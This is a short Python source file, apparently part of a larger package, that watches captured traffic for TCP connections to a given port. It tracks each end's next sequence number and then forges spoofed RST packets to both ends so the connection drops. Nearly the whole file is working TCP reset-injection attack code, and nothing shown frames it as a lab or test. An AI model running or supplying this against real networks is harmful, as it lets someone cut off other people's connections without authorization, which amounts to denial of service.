# SPDX-License-Identifier: GPL-2.0-only
"""End a TCP connection by forging, to both of its ends, a reset from the other."""

from scapy.layers.inet import IP, TCP

from . import spoof

IPPROTO_TCP = 6
FIN, SYN, RST = 0x01, 0x02, 0x04


def connections(wire, port):
    """{(client, its port): {source: (number it sends next, packet)}}, opened on the wire.

    Those of which the capture has a SYN to the port, and no end.
    """
    found = {}
    for packet in map(IP, wire.packets(IPPROTO_TCP)):
        tcp = packet[TCP]
        if port not in (tcp.sport, tcp.dport):
            continue
        client = ((packet.src, tcp.sport) if tcp.dport == port else (packet.dst, tcp.dport))
        ends = found.setdefault(client, {})
        if int(tcp.flags) & (FIN | RST):
            del found[client]
            continue
        length = packet.len - packet.ihl * 4 - tcp.dataofs * 4
        following = tcp.seq + length + bool(int(tcp.flags) & SYN)
        if packet.src not in ends or (following - ends[packet.src][0]) % (1 << 32) < 1 << 31:
            ends[packet.src] = (following % (1 << 32), packet)
    return found


def reset(host, ends):
    """Reset one connection that connections() found, from a host on the way."""
    for following, packet in ends.values():
        tcp = packet[TCP]
        forged = IP(bytes(IP(src=packet.src, dst=packet.dst) /
                          TCP(sport=tcp.sport, dport=tcp.dport, flags="R", seq=following)))
        spoof.send(host, spoof.ip_packet(packet.src, packet.dst, bytes(forged[TCP]),
                                         IPPROTO_TCP))
